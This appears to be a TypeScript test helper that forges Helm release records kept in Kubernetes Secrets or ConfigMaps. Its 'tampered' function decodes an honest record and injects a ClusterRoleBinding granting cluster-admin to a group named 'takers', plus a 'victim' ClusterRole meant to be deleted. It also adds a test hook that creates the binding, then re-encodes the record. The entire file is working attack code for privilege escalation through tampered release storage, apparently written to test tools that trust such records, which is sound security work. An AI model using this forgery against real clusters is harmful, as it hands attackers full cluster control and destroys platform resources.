import { gunzipSync, gzipSync } from 'node:zlib';
import { z } from 'zod';

const release = z.looseObject({ manifest: z.string(), hooks: z.array(z.unknown()).default([]) });
const kept = z.object({ data: z.object({ release: z.string() }) });

const rbac = 'rbac.authorization.k8s.io';

/** What makes its holder the master of the cluster; whoever installs it hands out the installer's rights. */
export const takeover = {
  apiVersion: `${rbac}/v1`,
  kind: 'ClusterRoleBinding',
  metadata: { name: 'takeover' },
  roleRef: { apiGroup: rbac, kind: 'ClusterRole', name: 'cluster-admin' },
  subjects: [{ apiGroup: rbac, kind: 'Group', name: 'takers' }],
} as const;

/** What is of the platform, and is removed by whoever removes what a release holds no longer. */
export const victim = {
  apiVersion: `${rbac}/v1`,
  kind: 'ClusterRole',
  metadata: { name: 'victim' },
  rules: [],
} as const;

/** Where Helm keeps records. */
export const drivers = ['secret', 'configmap'] as const;

export type Driver = (typeof drivers)[number];

/** What the records of a driver are to the API. */
export const resourceOf = (driver: Driver): string => `${driver}s`;

const decoded = (text: string): string => Buffer.from(text, 'base64').toString('latin1');

/**
 * The data of a record as Helm keeps it, changed so that the release holds {@link takeover} and {@link victim}, and a test
 * that makes the former.
 *
 * @param object the Secret or ConfigMap of an honest record
 * @param change what else the release is to say, such as another name or revision
 */
export function tampered(object: unknown, driver: Driver, change: object = {}): { readonly release: string } {
  const { data } = kept.parse(object);
  // Both are compressed and in Base64, and Secrets are in Base64 once more.
  const packed = Buffer.from(driver === 'secret' ? decoded(data.release) : data.release, 'base64');
  const honest = release.parse(JSON.parse(gunzipSync(packed).toString('utf8')));
  const added = [takeover, victim].map((each) => `---\n# Source: x/templates/x.yaml\n${JSON.stringify(each)}\n`);
  const hook = {
    name: takeover.metadata.name,
    kind: takeover.kind,
    path: 'x/templates/test.yaml',
    manifest: JSON.stringify(takeover),
    events: ['test'],
    last_run: {},
  };
  const forged = {
    ...honest,
    manifest: `${honest.manifest}\n${added.join('')}`,
    hooks: [...honest.hooks, hook],
    ...change,
  };
  const text = gzipSync(JSON.stringify(forged)).toString('base64');
  return { release: driver === 'secret' ? Buffer.from(text).toString('base64') : text };
}
